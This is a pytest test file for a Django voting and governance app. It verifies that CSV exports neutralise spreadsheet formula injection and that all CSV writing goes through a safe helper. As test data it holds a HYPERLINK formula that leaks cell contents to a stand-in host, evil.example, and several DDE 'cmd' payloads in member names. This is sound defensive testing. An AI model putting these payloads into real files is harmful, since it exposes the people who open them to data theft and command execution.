"""CSV injection: no cell of any CSV export starts a spreadsheet formula (OWASP).

A motion title like ``=HYPERLINK(...)`` and member names starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return reach every CSV the product writes: open
data (per association, per meeting, in the ZIP), the voting codes, the commitments
and the voting power table. Each cell comes out with a leading ``'``; the JSON of the
same object keeps the exact text. And no module writes CSV but through csvsafe.
"""

import ast
import csv
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client

import besluit
from besluit import csvsafe
from besluit.accountability.models import Commitment
from besluit.associations.models import Member, Role
from besluit.meetings.models import Meeting
from besluit.meetings.services import do_set_meeting_status
from besluit.proposals.models import SubmissionStatus
from tests import factories
from tests.accountability import helpers

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
EVIL_NAMES = [
    "=cmd|' /C calc'!A0",
    "+Gemeente Plus",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(csvsafe.FORMULA_START):
                assert csvsafe.neutralise(cell) == cell, f"{where}: formula cell {cell!r}"


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.fixture
def evil(association, chair, secretariat):
    """Six members with formula names voted on a motion with a formula title."""
    members = [factories.member(association, i) for i in range(len(EVIL_NAMES))]
    for m, name in zip(members, EVIL_NAMES, strict=True):
        # As an import (or a typo in the register) could leave them.
        Member.objects.filter(pk=m.pk).update(name=name)
    meeting = helpers.meeting_in(association, 30, "Voorjaars-ALV")
    do_set_meeting_status(actor=chair, meeting=meeting, status=Meeting.Status.CONVENED)
    reps = [
        factories.make_user(f"rep{i}", association, Role.Kind.REPRESENTATIVE, member=m)
        for i, m in enumerate(members)
    ]
    motion = helpers.submit_motion(reps[0], meeting, title=EVIL_TITLE)
    helpers.adopt_by_vote(chair, motion, reps)
    motion.refresh_from_db()
    assert motion.status == SubmissionStatus.ADOPTED
    assert Commitment.objects.filter(motion=motion).exists()
    return {"meeting": meeting, "motion": motion}


def neutralised(text: str) -> str:
    return "'" + text


def test_open_data_csv_per_association_and_meeting_neutralises_formulas(client, association, evil):
    slug, pk = association.slug, evil["meeting"].pk
    for base in (f"/open/{slug}/", f"/open/{slug}/vergaderingen/{pk}/"):
        for table in ("motions", "organizations", "votes"):
            response = client.get(f"{base}{table}.csv")
            assert response.status_code == 200
            rows = rows_of(response.content)
            assert_no_formula(rows, f"{base}{table}.csv")
            if table == "motions":
                assert neutralised(EVIL_TITLE) in cells(rows)
            else:
                assert {neutralised(n) for n in EVIL_NAMES} <= cells(rows)
        archive = zipfile.ZipFile(io.BytesIO(client.get(f"{base}open-data.zip").content))
        for name in archive.namelist():
            if name.endswith(".csv"):
                assert_no_formula(rows_of(archive.read(name)), f"{base}open-data.zip:{name}")
        # The JSON of the same objects is exact: only a spreadsheet runs formulas.
        export = json.loads(client.get(f"{base}popolo.json").content)
        assert EVIL_TITLE in {m["title"] for m in export["motions"]}
        assert set(EVIL_NAMES) <= {o["name"] for o in export["organizations"]}
        names = {v["voter"]["name"] for e in export["vote_events"] for v in e["votes"]}
        assert set(EVIL_NAMES) <= names


def test_voting_codes_csv_neutralises_member_names(association, secretariat, evil):
    client = Client()
    client.force_login(secretariat)
    page = f"/{association.slug}/vergaderingen/{evil['meeting'].pk}/stemcodes/"
    client.post(page)
    response = client.get(page + "?download=1")
    assert response.status_code == 200
    rows = rows_of(response.content)
    assert_no_formula(rows, "stemcodes.csv")
    assert {neutralised(n) for n in EVIL_NAMES} <= {row[1] for row in rows}


def test_commitments_csv_neutralises_the_motion_title(client, association, evil):
    base = f"/{association.slug}/verantwoording/"
    rows = rows_of(client.get(base + "toezeggingen.csv").content)
    assert_no_formula(rows, "toezeggingen.csv")
    assert neutralised(EVIL_TITLE) in cells(rows)
    body = json.loads(client.get(base + "toezeggingen.json").content)
    assert EVIL_TITLE in {c["title"] for c in body["commitments"]}


def test_voting_power_csv_neutralises_member_names(association, secretariat, evil):
    client = Client()
    client.force_login(secretariat)
    response = client.get(f"/{association.slug}/gewichten/analyse/?format=csv")
    assert response.status_code == 200
    rows = rows_of(response.content)
    assert_no_formula(rows, "voting power csv")
    assert {neutralised(n) for n in EVIL_NAMES} <= cells(rows)


def test_numbers_stay_numbers_and_only_formula_text_is_neutralised():
    out = io.StringIO()
    csvsafe.writer(out, lineterminator="\n").writerow(
        ["-1.5", Decimal("-1.5"), -3, "+31", "GM0363", "-1.5+A1", "-", "", None, "a=b"]
    )
    assert out.getvalue() == "-1.5,-1.5,-3,+31,GM0363,'-1.5+A1,'-,,,a=b\n"


def test_a_line_break_in_a_cell_cannot_start_a_row_of_its_own():
    for terminator in ("\n", "\r\n"):
        out = io.StringIO()
        csvsafe.writer(out, lineterminator=terminator).writerow(["GM1", "x\r=1+1", "y\n=2"])
        assert rows_of(out.getvalue().encode()) == [["GM1", "x\r=1+1", "y\n=2"]]


SRC = Path(besluit.__file__).resolve().parent


def test_no_module_writes_csv_but_through_csvsafe():
    """Architecture: csv.writer / csv.DictWriter appear only in besluit/csvsafe.py."""
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path.name == "csvsafe.py" and path.parent == SRC:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                offenders.append(f"{path.relative_to(SRC)}:{node.lineno} csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                names = {a.name for a in node.names} & {"writer", "DictWriter"}
                offenders += [
                    f"{path.relative_to(SRC)}:{node.lineno} from csv import {n}"
                    for n in sorted(names)
                ]
    assert offenders == [], "write CSV with besluit.csvsafe.writer: " + ", ".join(offenders)
